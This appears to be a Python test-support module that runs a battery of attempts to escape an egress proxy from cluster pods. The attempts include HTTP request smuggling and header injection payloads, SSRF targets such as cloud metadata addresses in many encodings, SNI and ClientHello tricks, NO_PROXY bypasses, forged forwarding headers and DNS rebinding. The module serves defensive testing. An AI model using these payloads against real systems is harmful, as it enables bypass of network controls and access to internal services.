"""The attempts at an escape through the egress proxy, as data, and the requests that a pod makes for them.

The lab makes them in a network namespace, and the cluster tests in user pods (D-275). The code is piped there after `hellos`, so
both need only the standard library. `main` makes the attempts of one kind of pod.
"""

import contextlib
import json
import os
import re
import socket
import ssl
import subprocess
import sys
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any

from tests.support.egress_proxy.hellos import RETRY, encrypted_client_hello, hello, hello_1_3, hello_for, server_name

PORT = 3128
LISTED, ANY, SIX, BLOCKED, STRANGER, TWICE, COURSE = "listed", "any", "six", "blocked", "stranger", "twice", "course"
"""Pods: unverified with a list, in a tier with `*`, unverified with an IPv6 address, blocked, never published, with an address that
two pods have, and unverified with more hosts for its repository."""

LAB, CLUSTER = "lab", "cluster"
EVERYWHERE = (LAB, CLUSTER)

PUBLIC, PUBLIC6, OWN, DOWN = ("203.0.113.11", "203.0.113.12"), "2001:db8::11", "203.0.113.80", "203.0.113.99"
"""Servers on the internet: two public ones, one with IPv6 only, the hub, and one that is switched off."""

DNS_PORT = 5300
"""The port of a DNS server on the first public address, in the cluster."""

PRIVATE, METADATA = "10.9.9.9", "169.254.169.254"

NAMES = {
    "six.example": [PUBLIC6],
    "private.example": [PRIVATE],
    "meta.example": [METADATA],
    "metadata.google.internal": [METADATA],
    "shared.example": ["100.64.9.9"],
    "loop.example": ["127.0.0.1"],
    "loop6.example": ["::1"],
    "zero.example": ["0.0.0.0"],
    "self.example": ["10.42.255.1"],
    "mapped.example": ["::ffff:10.9.9.9"],
    "nat64.example": ["64:ff9b::a09:909"],
    "local6.example": ["fd00::9"],
    "sixtofour.example": ["2002:a09:909::1"],
    "mixed.example": [PUBLIC[0], PRIVATE],
    "mixed2.example": [PRIVATE, PUBLIC[0]],
    "hub.example": [OWN],
    "alias-of-hub.example": [OWN],
    "mapped-hub.example": [f"::ffff:{OWN}"],
    "down.example": [DOWN],
    "gone.example": [],
}
"""Names with another address than the first public one. Names with `evil` have the second."""

ALIASES = {"cname.example": "private.example", "cname-meta.example": "meta.example", "cname-hub.example": "hub.example"}
"""Names that are aliases in DNS (CNAME)."""

NAMES_OF_HUB = ("hub.example", "alias-of-hub.example", "cname-hub.example", "mapped-hub.example")
"""The hub's own name, and others with its address."""

IN_CLUSTER = ("hub", "proxy-public", "binder", "binder-egress", "binder-egress-redis", "binder-egress-proxy")
"""Services of the namespace, which the proxy can resolve."""

NAMESPACE = "binder-egress-test"

LISTED_HOSTS = ["ok.example", "other.example", "*.suffix.example", *sorted({*NAMES, *ALIASES} - {"hub.example"})]
"""The list of unverified servers."""


def addresses(name: str) -> list[str]:
    """The answer of DNS for a name, with aliases followed."""
    default = "10.43.0.1" if name.endswith(".cluster.local") else PUBLIC[1] if "evil" in name else PUBLIC[0]
    return NAMES.get(ALIASES.get(name, name), [default])


# -- what pods do

answer_seconds = 4.0
"""Seconds that a pod waits for an answer."""

END_SECONDS = 30.0
"""Seconds that a pod waits for the end of a tunnel without a ClientHello, which the proxy ends after ten."""


@dataclass(frozen=True)
class Pod:
    """The proxy's address for a pod, the pod's own, empty for the system's choice, and the addresses of the proxy's pods."""

    proxy: str
    address: str = ""
    replicas: tuple[str, ...] = ()


def connect(pod: Pod) -> socket.socket:
    found = socket.socket(socket.AF_INET6 if ":" in pod.proxy else socket.AF_INET)
    found.settimeout(answer_seconds + 2)
    found.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if pod.address:
        found.bind((pod.address, 0))
    found.connect((pod.proxy, PORT))
    return found


def first_line(connection: socket.socket) -> str:
    head = b""
    while b"\r\n\r\n" not in head:
        try:
            byte = connection.recv(1)
        except OSError as error:
            return f"<{type(error).__name__}>"
        if not byte:
            return "<closed>"
        head += byte
    return head.split(b"\r\n", 1)[0].decode()


def open_tunnel(pod: Pod, target: str, early: bytes = b"", host: str = "", version: str = "1.1", more: str = "") -> tuple:
    connection = connect(pod)
    named = f"Host: {host or target}\r\n" if version == "1.1" else ""
    connection.sendall(f"CONNECT {target} HTTP/{version}\r\n{named}{more}\r\n".encode() + early)
    return connection, first_line(connection)


def tunnel(
    pod: Pod,
    target: str,
    name: str = "",
    sent: bytes | None = None,
    pieces: int = 0,
    pause: float = 0.02,
    early: bool = False,
    end_seconds: float = 0,
    **how: str,
) -> str:
    """CONNECT and a ClientHello. Returns the answer: `ServerHello` if the host answered. `end_seconds` is for a tunnel that only
    time ends."""
    sent = hello_for(name) if sent is None else sent
    connection, line = open_tunnel(pod, target, sent if early else b"", **how)
    if " 200" not in line:
        return line
    try:
        if not early:
            for at in range(0, len(sent), pieces or len(sent)):
                connection.sendall(sent[at : at + (pieces or len(sent))])
                time.sleep(pause if pieces else 0)
        connection.settimeout(end_seconds or answer_seconds)
        answer = connection.recv(4096)
    except OSError as error:
        return type(error).__name__
    finally:
        connection.close()
    return "ServerHello" if answer[:1] == b"\x16" else "closed" if not answer else f"REACHED? {answer[:60]!r}"


def asked_again(pod: Pod, target: str, name: str, other: str, at_once: bool = False) -> str:
    """CONNECT, a ClientHello for which the host asks for another one (HelloRetryRequest), and that. Returns both answers."""
    first, second = hello_1_3(name, has_key=False), hello_1_3(other)
    connection, line = open_tunnel(pod, target)
    if " 200" not in line:
        return line
    with connection:
        connection.sendall(first + second if at_once else first)
        answer = b""
        while RETRY not in answer:
            if not (more := connection.recv(4096)):
                return f"no HelloRetryRequest: {answer!r}"
            answer += more
        if not at_once:
            connection.sendall(second)
        answer = answer[answer.index(RETRY) :]
        # The host also sends a ChangeCipherSpec, before or after.
        while len(answer) < 300 and (more := connection.recv(4096)):
            answer += more
    return f"HelloRetryRequest, {'closed' if len(answer) < 300 else 'ServerHello'}"


def https(pod: Pod, name: str, host: str = "") -> str:
    """A whole handshake and a request. Returns what the host saw."""
    connection, line = open_tunnel(pod, f"{name}:443")
    if " 200" not in line:
        return line
    context = ssl._create_unverified_context()
    with context.wrap_socket(connection, server_hostname=name) as secure:
        secure.sendall(f"GET / HTTP/1.1\r\nHost: {host or name}\r\nConnection: close\r\n\r\n".encode())
        return receive(secure)


def receive(connection: socket.socket) -> str:
    """Read to the end. Returns the first line, and what hosts saw; without a line, how the connection ended."""
    found, end = b"", "closed"
    connection.settimeout(answer_seconds)
    try:
        while more := connection.recv(65536):
            found += more
            if b"REACHED" in found and found.endswith(b"\n"):
                connection.settimeout(0.3)
    except OSError as error:
        end = type(error).__name__
    text = found.decode("latin-1")
    return " | ".join([text.split("\r\n")[0] or end, *re.findall(r"REACHED[^\n]*", text)])


def plain(pod: Pod, raw: str | bytes) -> str:
    """Bytes for the proxy. Returns the first line of the answer, and what hosts saw."""
    with connect(pod) as connection:
        with contextlib.suppress(OSError):
            connection.sendall(raw.encode() if isinstance(raw, str) else raw)
        return receive(connection)


def get(url: str, host: str = "", more: str = "", version: str = "1.1", method: str = "GET") -> str:
    named = host or url.split("/")[2]
    return f"{method} {url} HTTP/{version}\r\nHost: {named}\r\nConnection: close\r\n{more}\r\n"


def rebinding(pod: Pod, wait: Callable[[], None] = lambda: time.sleep(6)) -> str:
    """A name that has a public and a private address in turn. With `wait`, wait until the proxy asks DNS again."""
    seen = ""
    for _ in range(8):
        found = plain(pod, get("http://rebind.example/"))
        seen = f"{seen} | {found}"
        if f"to={PUBLIC[0]}" in seen and "private or special" in seen:
            return f"both answers{seen}"
        wait()
    return f"one answer alone{seen}"


def direct(target: str, port: int, udp: bool = False) -> Callable[[Pod], str]:
    """Bypasses the proxy: a connection, or a query to a DNS server."""

    def act(_: Pod) -> str:
        family = socket.AF_INET6 if ":" in target else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM if udp else socket.SOCK_STREAM) as one:
            one.settimeout(3)
            try:
                one.connect((target, port))
                if udp:
                    one.send(b"\0\1\1\0\0\1\0\0\0\0\0\0\4evil\7example\0\0\1\0\1")
                    one.recv(512)
            except OSError as error:
                return type(error).__name__
        return "REACHED"

    return act


def by_urllib(url: str, **no_proxy: str) -> Callable[[Pod], str]:
    """A program that uses the variables, with one changed by a person."""
    code = "import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=3).read().decode())"

    def act(pod: Pod) -> str:
        proxy = f"http://{pod.proxy}:{PORT}"
        variables = {"PATH": os.environ["PATH"], "http_proxy": proxy, "https_proxy": proxy, **no_proxy}
        done = subprocess.run([sys.executable, "-c", code, url], capture_output=True, text=True, env=variables, check=False)
        return done.stdout + done.stderr[-400:]

    return act


# -- the attempts


NO_REFUSAL = (" 429 ", "Too many connections", "does not answer")
"""In answers of the proxy that are no refusals: a limit, or a host or a DNS server that does not answer."""

ENDED = re.compile(r"HTTP/1\.[01] [245]\d\d |<?(closed|ConnectionResetError|ConnectionAbortedError|BrokenPipeError)\b")
"""What the proxy did with an attempt: an answer, an orderly close, or a reset. If the proxy is away, nothing of this is seen."""

UNREACHED = re.compile(r"\b(TimeoutError|ConnectionRefusedError|ConnectionResetError|PermissionError|OSError|gaierror|URLError)\b")
"""What the network does with an attempt past the proxy: policies drop or reject its packets, or there is no route or no name."""

LATE = re.compile("TimeoutError|timed out")


@dataclass(frozen=True)
class Attempt:
    """One attempt of a pod, of a kind of the table of docs/battery-tables.md. `act` makes it, and returns what the pod saw.

    `reaches` is a text that this must contain; after `!`, one that it must not contain; empty: nothing may be reached. For an
    attempt that goes `past` the proxy, no answer is as good as a refusal.
    """

    kind: str
    name: str
    act: Callable[[Any], str]
    pod: str = LISTED
    reaches: str = ""
    where: tuple[str, ...] = EVERYWHERE
    past: bool = False

    @property
    def id(self) -> str:
        return f"{self.kind}: {self.name}"

    def judge(self, seen: str) -> bool:
        """Whether the result is as it must be. A limit, a host that does not answer, and a proxy that does not are no refusals."""
        if self.reaches and not self.reaches.startswith("!"):
            return self.reaches in seen
        unwanted = (self.reaches[1:],) if self.reaches else ("REACHED", "ServerHello", "HTTP/1.1 2")
        if any(text in seen for text in (*unwanted, *NO_REFUSAL)):
            return False
        return bool(UNREACHED.search(seen) if self.past else ENDED.match(seen))


def tunnels(target: str, name: str = "", **how: Any) -> Callable[[Pod], str]:
    return lambda pod: tunnel(pod, target, name, **how)


def asks(raw: str | bytes) -> Callable[[Pod], str]:
    return lambda pod: plain(pod, raw)


def opens(name: str, host: str = "") -> Callable[[Pod], str]:
    return lambda pod: https(pod, name, host)


USE = "listed hosts, and any public host with `*`"
"""The kind of attempts that must succeed, so that a refusal of others means something."""

EVIL = get("http://evil.example/")
REBINDING = "rebinding between check and use"

NOT_EVIL = "!host=evil.example"
"""For attempts that may reach the listed host, but not the other one."""

OK = "ok.example:443"


def _use() -> list[Attempt]:
    def add(name: str, reaches: str, act: Callable[[Pod], str], pod: str = LISTED, where: tuple[str, ...] = EVERYWHERE) -> Attempt:
        return Attempt(USE, name, act, pod, reaches, where)

    long, cut = hello(server_name("ok.example"), padding=9000), hello(server_name("ok.example"), record=60)
    sized = get("http://ok.example/", more="Content-Length: 5\r\n", method="POST")
    large = get("http://ok.example/", more="Content-Length: 300000\r\n", method="POST")
    silent = "HTTP/1.1 502 The host does not answer"
    return [
        add("https", "host=ok.example name=ok.example", opens("ok.example")),
        add("http", "REACHED host=ok.example", asks(get("http://ok.example/a"))),
        add("https from an IPv6 address", "REACHED host=ok.example", opens("ok.example"), SIX),
        add("https to a host with IPv6 alone", "REACHED host=six.example", opens("six.example"), SIX),
        add("https with *", "REACHED host=evil.example", opens("evil.example"), ANY),
        add("http with *", "REACHED host=evil.example", asks(EVIL), ANY),
        add("ClientHello in pieces of 40 bytes", "ServerHello", tunnels(OK, "ok.example", pieces=40)),
        add("ClientHello of 9 kB", "ServerHello", tunnels(OK, sent=long, pieces=1400)),
        add("ClientHello in records of 60 bytes", "ServerHello", tunnels(OK, sent=cut)),
        add("ClientHello with the CONNECT", "ServerHello", tunnels(OK, "ok.example", early=True)),
        add("second ClientHello", "HelloRetryRequest, ServerHello", lambda pod: asked_again(pod, OK, "ok.example", "ok.example")),
        add("name in capitals in the ClientHello", "ServerHello", tunnels(OK, "OK.Example")),
        add("host in capitals", "ServerHello", tunnels("OK.Example:443", "ok.example")),
        add("host with a dot at the end", "ServerHello", tunnels("ok.example.:443", "ok.example")),
        add("CONNECT in HTTP/1.0", "ServerHello", tunnels(OK, "ok.example", version="1.0")),
        add("body with its length", "body=hello", asks(f"{sized}hello")),
        add("body of 300 kB", "body=" + "x" * 1000, asks(large + "x" * 300_000)),
        add("hidden name with *", "ServerHello", tunnels(OK, sent=hello()), ANY),
        # In the cluster, nothing refuses a connection to an unused address, so the proxy waits longer than the pod does here.
        add("https to a host that does not answer", silent, opens("down.example"), ANY, (LAB,)),
        add("http to a host that does not answer", silent, asks(get("http://down.example/")), ANY, (LAB,)),
        add("who am I", "HTTP/1.1 200 OK", asks("GET / HTTP/1.1\r\nHost: x\r\n\r\n")),
        add("https to a host of the repository", "host=api.course.example", opens("api.course.example"), COURSE, (LAB,)),
        add("https to a host of the tier, with a repository", "host=ok.example", opens("ok.example"), COURSE, (LAB,)),
    ]


def _by_name() -> list[Attempt]:
    other, dots, idna = "a host that is not listed", "trailing dots", "IDNA and other spellings of a name"
    found = [
        Attempt(other, "CONNECT", tunnels("evil.example:443", "evil.example")),
        Attempt(other, "http", asks(EVIL)),
        Attempt(other, "CONNECT in HTTP/1.0", tunnels("evil.example:443", "evil.example", version="1.0")),
        Attempt(other, "a repository's, from another", tunnels("api.course.example:443", "api.course.example")),
        Attempt(other, "with a repository", tunnels("evil.example:443", "evil.example"), COURSE, where=(LAB,)),
        Attempt(other, "everything below it is listed", tunnels("suffix.example:443", "suffix.example")),
        Attempt(dots, "in the ClientHello", tunnels(OK, "ok.example.")),
        Attempt(dots, "two in the Host", asks(get("http://ok.example/", host="ok.example.."))),
        Attempt(dots, "the hub", tunnels("hub.example.:443", "hub.example"), ANY),
        Attempt(dots, "the hub, http", asks(get("http://hub.example./")), ANY),
        Attempt(idna, "an umlaut in the Host", asks(get("http://ok.example/", host="ök.example"))),
        Attempt(idna, "an umlaut in the ClientHello", tunnels(OK, "ök.example")),
    ]
    for target in (
        "ok.example.evil.example:443", "ok.example:443@evil.example:443", "evil.example:443#ok.example:443",
        "evil.example:443/ok.example", "ok.example\0.evil.example:443", "ok.example%00.evil.example:443",
        "ok.example,evil.example:443", "evil.example\t:443", "*.example:443", "evil.example:443:443", "evil.example:0443",
        "evil.example:65979", "evilok.example:443",
    ):  # fmt: skip
        found.append(Attempt(other, f"CONNECT {target!r}", tunnels(target, "evil.example")))
    for target in ("evil.example.:443", "ok.example..:443", ".ok.example:443", "169.254.169.254.:443"):
        found.append(Attempt(dots, f"CONNECT {target}", tunnels(target, "ok.example")))
    for target in (
        "xn--80ak6aa92e.example:443", "xn--.example:443", "%6fk.example:443", "ok%2eexample:443", "ｏk.example:443",
        "ok。example:443", "o\u00adk.example:443", "①⑥⑨.254.169.254:443", "１０.9.9.9:443",
    ):  # fmt: skip
        found.append(Attempt(idna, f"CONNECT {target!r}", tunnels(target, "ok.example")))
    return found


def _in_tunnels() -> list[Attempt]:
    named, other, two = "another name in the ClientHello, two, or none", "another protocol in a tunnel", "HTTP/2 prior knowledge"
    ok, evil = server_name("ok.example"), server_name("evil.example")
    closed = "HelloRetryRequest, closed"
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    found = [
        Attempt(named, "another host", tunnels(OK, "evil.example")),
        Attempt(named, "another listed host", tunnels(OK, "other.example")),
        Attempt(named, "another host, with *", tunnels(OK, "other.example"), ANY),
        Attempt(named, "none", tunnels(OK, sent=hello())),
        Attempt(named, "two, the listed first", tunnels(OK, sent=hello(server_name("ok.example", "evil.example")))),
        Attempt(named, "two, the listed last", tunnels(OK, sent=hello(server_name("evil.example", "ok.example")))),
        Attempt(named, "extension twice", tunnels(OK, sent=hello(ok, evil))),
        Attempt(named, "Encrypted Client Hello", tunnels(OK, sent=hello(ok, encrypted_client_hello()))),
        Attempt(named, "over two records", tunnels(OK, sent=hello(evil, record=60))),
        Attempt(named, "in pieces of 5 bytes", tunnels(OK, "evil.example", pieces=5, pause=0.002)),
        Attempt(named, "with the CONNECT", tunnels(OK, "evil.example", early=True)),
        Attempt(named, "in HTTP/1.0", tunnels(OK, "evil.example", version="1.0")),
        Attempt(named, "in a second ClientHello of one record", tunnels(OK, sent=hello(ok, after=hello_for("evil.example")[5:]))),
        *(
            Attempt(named, what, lambda pod, one=at_once: asked_again(pod, OK, "ok.example", "evil.example", one), reaches=closed)
            for what, at_once in (("in a second ClientHello, when asked", False), ("in a second ClientHello, unasked", True))
        ),
        Attempt(other, "ClientHello of a byte in 0.2 s", tunnels(OK, "ok.example", pieces=1, pause=0.2)),
        Attempt(two, "to the proxy", asks(preface)),
        Attempt(two, "to the proxy, then a request", asks(preface + EVIL.encode())),
        Attempt(two, "upgrade to h2c", asks(EVIL.replace("close", "Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: x"))),
    ]
    for pod in (LISTED, ANY):
        found.append(Attempt(two, f"in a tunnel, {pod}", tunnels(OK, sent=preface + bytes(9)), pod))
        for what, sent, end_seconds in (
            ("http", b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", 0),
            ("ssh", b"SSH-2.0-x\r\n", 0),
            ("CONNECT", b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n", 0),
            ("half a ClientHello", hello_for("ok.example")[:50], END_SECONDS),
            ("records of one byte", hello(ok, record=1), 0),
        ):
            found.append(Attempt(other, f"{what}, {pod}", tunnels(OK, sent=sent, end_seconds=end_seconds), pod))
    return found


def _by_address() -> list[Attempt]:
    ports, spelled, named = "other ports and schemes", "an address in any spelling", "a name of a private or special address"
    alias, meta = "a CNAME to a private name", "metadata by name"
    found = [Attempt(ports, f"CONNECT to {port}", tunnels(f"ok.example:{port}", "ok.example"), ANY) for port in (22, 80, 8080, 0)]
    for url in (
        "http://ok.example:8080/", "http://ok.example:443/", "http://ok.example:22/", "https://ok.example/",
        "ftp://ok.example/",
    ):  # fmt: skip
        found.append(Attempt(ports, f"GET {url}", asks(get(url)), ANY))
    for address in (
        PUBLIC[1], PRIVATE, METADATA, "127.0.0.1", "localhost", "[::1]", "[::ffff:10.9.9.9]", "[fd00::9]",
        "[64:ff9b::a09:909]", "168364297", "0x0a.9.9.9", "10.9.2313", "012.9.9.9", "0x0a090909", "10.9.9.9.", f"[{PUBLIC6}]",
        "[fe80::1%25eth0]",
    ):  # fmt: skip
        found.append(Attempt(spelled, f"CONNECT {address}", tunnels(f"{address}:443", "evil.example"), ANY))
        found.append(Attempt(spelled, f"http://{address}/", asks(get(f"http://{address}/")), ANY))
    public = {"six.example", "down.example", "self.example", *NAMES_OF_HUB}
    for name in sorted({*NAMES, *ALIASES} - public):
        kind = meta if "meta" in name else alias if name in ALIASES else named
        for pod in (LISTED, ANY):
            found.append(Attempt(kind, f"{name}, {pod}", tunnels(f"{name}:443", name), pod))
            found.append(Attempt(kind, f"http {name}, {pod}", asks(get(f"http://{name}/")), pod))
    found.append(Attempt(named, "a repository's host", opens("private.example"), COURSE, where=(LAB,)))
    rebound = Attempt(REBINDING, "a public and a private address in turn", rebinding, ANY, "both answers", (CLUSTER,))
    return [*found, rebound]


def _plain() -> list[Attempt]:
    absolute, pipe, smuggled, injected = "absolute form with another Host", "pipelining", "smuggling", "header injection"
    length = f"Content-Length: {len(EVIL)}\r\n"

    def post(more: str) -> str:
        return get("http://ok.example/", more=more, method="POST")

    chunked = "Transfer-Encoding: chunked\r\n"
    upgrade = get("http://ok.example/", more="Upgrade: websocket\r\n").replace("close", "upgrade")
    found = [
        Attempt(absolute, "Host of another host", asks(get("http://ok.example/", host="evil.example"))),
        Attempt(absolute, "address of another host", asks(get("http://evil.example/", host="ok.example"))),
        Attempt(absolute, "CONNECT evil, Host ok", tunnels("evil.example:443", "evil.example", host=OK)),
        Attempt(absolute, "CONNECT ok, Host evil", tunnels(OK, "evil.example", host="evil.example:443")),
        Attempt(absolute, "origin form", asks("GET /a HTTP/1.1\r\nHost: evil.example\r\n\r\n")),
        Attempt(absolute, "user in the address", asks(get("http://ok.example@evil.example/", host="ok.example"))),
        Attempt(absolute, "backslash", asks(get("http://evil.example\\@ok.example/", host="ok.example"))),
        Attempt(absolute, "HTTP/0.9", asks("GET http://evil.example/\r\n\r\n")),
        Attempt(absolute, "TRACE", asks(get("http://evil.example/", method="TRACE"))),
        Attempt(absolute, "two Host headers", asks(get("http://ok.example/", more="Host: evil.example\r\n")), reaches=NOT_EVIL),
        Attempt(pipe, "plain", asks(get("http://ok.example/").replace("Connection: close\r\n", "") + EVIL), reaches=NOT_EVIL),
        Attempt(pipe, "with close", asks(get("http://ok.example/") + EVIL), reaches=NOT_EVIL),
        Attempt(pipe, "a CONNECT", asks(get("http://ok.example/") + "CONNECT evil.example:443 HTTP/1.1\r\n\r\n"), reaches=NOT_EVIL),
        Attempt(pipe, "who am I, then a request", asks("GET / HTTP/1.1\r\nHost: x\r\n\r\n" + EVIL), reaches=NOT_EVIL),
        Attempt(pipe, "after an upgrade", asks(upgrade + EVIL), reaches=NOT_EVIL),
    ]
    for what, raw in (
        ("length and chunks", post(f"Content-Length: {len(EVIL) + 5}\r\n{chunked}") + f"0\r\n\r\n{EVIL}"),
        ("space before the colon", post(f"{length}Transfer-Encoding : chunked\r\n") + EVIL),
        ("two lengths", post(f"Content-Length: 0\r\n{length}") + EVIL),
        ("a list of lengths", post(f"Content-Length: 0, {len(EVIL)}\r\n") + EVIL),
        ("length with a sign", post(f"Content-Length: +{len(EVIL)}\r\n") + EVIL),
        ("chunks, then more", post(chunked) + f"0\r\n\r\n{EVIL}"),
        ("unknown coding", post("Transfer-Encoding: xchunked\r\n") + f"0\r\n\r\n{EVIL}"),
        ("two codings", post("Transfer-Encoding: chunked, identity\r\n") + f"0\r\n\r\n{EVIL}"),
        ("tab in the coding", post("Transfer-Encoding:\x0bchunked\r\n") + f"0\r\n\r\n{EVIL}"),
        ("chunk size with a sign", post(chunked) + f"+0\r\n\r\n{EVIL}"),
        ("chunk extension with a line feed", post(chunked) + f"0;a\n\r\n{EVIL}"),
        ("trailers", post(chunked) + f"0\r\nHost: evil.example\r\n{length}\r\n{EVIL}"),
        ("length that Connection hides", post(length).replace("close", "content-length") + EVIL),
        ("bare line feeds", "GET http://ok.example/ HTTP/1.1\nHost: ok.example\nX: y\n\n" + EVIL),
    ):
        found.append(Attempt(smuggled, what, asks(raw), reaches=NOT_EVIL))
    for what, raw in (
        ("tab in the target", "GET http://ok.example/\thttp://evil.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n"),
        ("header in the target", "GET http://ok.example/ HTTP/1.1\rX: y\r\nHost: ok.example\r\n\r\n"),
        ("header in the target of a CONNECT", "CONNECT evil.example:443\rX: y HTTP/1.1\r\nHost: ok.example\r\n\r\n"),
    ):
        found.append(Attempt(injected, what, asks(raw)))
    for what, raw in (
        ("folded", get("http://ok.example/", more="X: a\r\n Host: evil.example\r\n")),
        ("carriage return in a value", get("http://ok.example/", more="X: a\rHost: evil.example\r\n")),
        ("NUL in a value", get("http://ok.example/", more="X: a\0Host: evil.example\r\n")),
        ("encoded in the path", get("http://ok.example/%0d%0aHost:%20evil.example", host="ok.example")),
        ("host that Connection hides", get("http://ok.example/").replace("close", "host, close")),
    ):
        found.append(Attempt(injected, what, asks(raw), reaches=NOT_EVIL))
    return found


def _who() -> list[Attempt]:
    who, several = "headers that name another pod", "two pods of one address"
    forged = "".join(
        f"{name}: {value}\r\n"
        for name, value in (
            ("X-Forwarded-For", "10.42.0.6"),
            ("Forwarded", "for=10.42.0.6"),
            ("X-Egress-Tier", "verified"),
            ("Proxy-Authorization", "Basic Zm9yOmZ1bGw="),
        )
    )
    return [
        Attempt(who, "http", asks(get("http://evil.example/", more=forged))),
        Attempt(who, "CONNECT", tunnels("evil.example:443", "evil.example", more=forged)),
        Attempt("a blocked pod", "CONNECT to a listed host", tunnels(OK, "ok.example"), BLOCKED),
        Attempt("a blocked pod", "http to a listed host", asks(get("http://ok.example/")), BLOCKED),
        Attempt("an address that nobody published", "CONNECT", tunnels(OK, "ok.example"), STRANGER, where=(LAB,)),
        Attempt(several, "CONNECT", tunnels(OK, "ok.example"), TWICE, where=(LAB,)),
        Attempt(several, "http", asks(get("http://ok.example/")), TWICE, where=(LAB,)),
    ]


def _inside() -> list[Attempt]:
    own, hub, launch = "the proxy's own ports", "the hub through it", "a launch from a pod, by the hub's public address"
    found = []
    for port in (PORT, 8082):
        for host in ("localhost", "127.0.0.1", "self.example", "loop.example"):
            found.append(Attempt(own, f"http://{host}:{port}/", asks(get(f"http://{host}:{port}/metrics")), ANY))
        found.append(Attempt(own, f"CONNECT self.example:{port}", tunnels(f"self.example:{port}", sent=EVIL.encode()), ANY))
    found.append(Attempt(own, "CONNECT self.example:443", tunnels("self.example:443", "self.example"), ANY))
    found += [
        Attempt(own, "8082 of the Service", lambda pod: direct(pod.proxy, 8082)(pod), where=(CLUSTER,), past=True),
        Attempt(own, "8082 of a pod", lambda pod: direct(pod.replicas[0], 8082)(pod), where=(CLUSTER,), past=True),
        Attempt(own, "443 of a pod", lambda pod: direct(pod.replicas[0], 443)(pod), where=(CLUSTER,), past=True),
        Attempt(own, "another host, by a pod's address", lambda pod: plain(Pod(pod.replicas[0]), EVIL), where=(CLUSTER,)),
    ]
    for name in NAMES_OF_HUB:
        found.append(Attempt(hub, name, opens(name), ANY))
        path = "build/gh/owner/repository/HEAD"
        found.append(Attempt(launch, f"http://{name}/{path}", asks(get(f"http://{name}/{path}")), ANY))
        found.append(Attempt(launch, f"http://{name}/{path}, listed", asks(get(f"http://{name}/{path}"))))
    for name in (*(f"{service}.{NAMESPACE}" for service in IN_CLUSTER), "kubernetes.default"):
        found.append(Attempt(hub, f"CONNECT {name}", tunnels(f"{name}.svc.cluster.local:443", "x"), ANY))
        found.append(Attempt(hub, f"http {name}", asks(get(f"http://{name}.svc.cluster.local/")), ANY))
    return found


def _past_it() -> list[Attempt]:
    def add(name: str, act: Callable[[Pod], str], reaches: str = "") -> Attempt:
        kind = "past it: NO_PROXY tricks, direct connections"
        return Attempt(kind, name, act, reaches=reaches, where=(CLUSTER,), past=not reaches)

    return [
        *(add(f"{host}:{port}", direct(host, port)) for host in (PUBLIC[1], PUBLIC6) for port in (80, 443, 8080, 22)),
        add("a DNS server", direct(PUBLIC[0], DNS_PORT, udp=True)),
        add("NO_PROXY=*, a name", by_urllib("http://evil.example/", NO_PROXY="*")),
        add("NO_PROXY=*, an address", by_urllib(f"http://{PUBLIC[1]}/", NO_PROXY="*")),
        add("NO_PROXY=.example", by_urllib("http://evil.example/", NO_PROXY=".example")),
        add("no_proxy with the address", by_urllib(f"http://{PUBLIC[1]}/", no_proxy=PUBLIC[1])),
        add("no_proxy that names nothing", by_urllib("http://evil.example/", no_proxy=""), "HTTP Error 403"),
    ]


def _open() -> list[Attempt]:
    return [
        Attempt("**open:** another Host inside TLS", "one server for both", opens("ok.example", "evil.example"),
                reaches="host=evil.example name=ok.example"),
        Attempt("**open:** data in names below a listed `*.`", "a name", opens("c2VjcmV0.suffix.example"),
                reaches="host=c2VjcmV0.suffix.example"),
        Attempt("**open:** data in requests to a listed host", "a body",
                asks(get("http://ok.example/", more="Content-Length: 6\r\n", method="POST") + "secret"), reaches="body=secret"),
    ]  # fmt: skip


def attempts() -> list[Attempt]:
    """The attempts that change nothing, so they can be made in parallel."""
    return [*_use(), *_by_name(), *_in_tunnels(), *_by_address(), *_plain(), *_who(), *_inside(), *_past_it(), *_open()]


def act(attempt: Attempt, on: object) -> tuple[bool, str]:
    """Make an attempt. Returns whether it ended as it must, and what was seen. On a busy machine, attempts that must succeed may be
    late, and so may any answer."""
    must_succeed = attempt.kind == USE or attempt.kind.startswith("**open")
    for _ in range(3):
        try:
            seen = attempt.act(on)
        except Exception as error:
            seen = f"{type(error).__name__}: {error}"
        if attempt.judge(seen) or not (must_succeed or LATE.search(seen)):
            break
    return attempt.judge(seen), seen[:400]


def main() -> None:
    """Make the attempts of this pod whose kinds begin with the second argument. Prints attempt → [ended as it must, what was seen].

    The first argument is JSON: name of the pod, which may have several → addresses of the proxy and of its pods.
    """
    pods = {name: Pod(proxy, replicas=tuple(replicas)) for name, (proxy, replicas) in json.loads(sys.argv[1]).items()}
    made = {}
    with ThreadPoolExecutor(16) as pool:
        for attempt in attempts():
            if CLUSTER in attempt.where and attempt.pod in pods and attempt.kind.startswith(sys.argv[2]):
                made[attempt.id] = pool.submit(act, attempt, pods[attempt.pod])
                time.sleep(0.08)  # A server may begin 20 connections a second.
        found = {name: future.result() for name, future in made.items()}
    print(json.dumps(found))


if __name__ == "__main__":
    main()
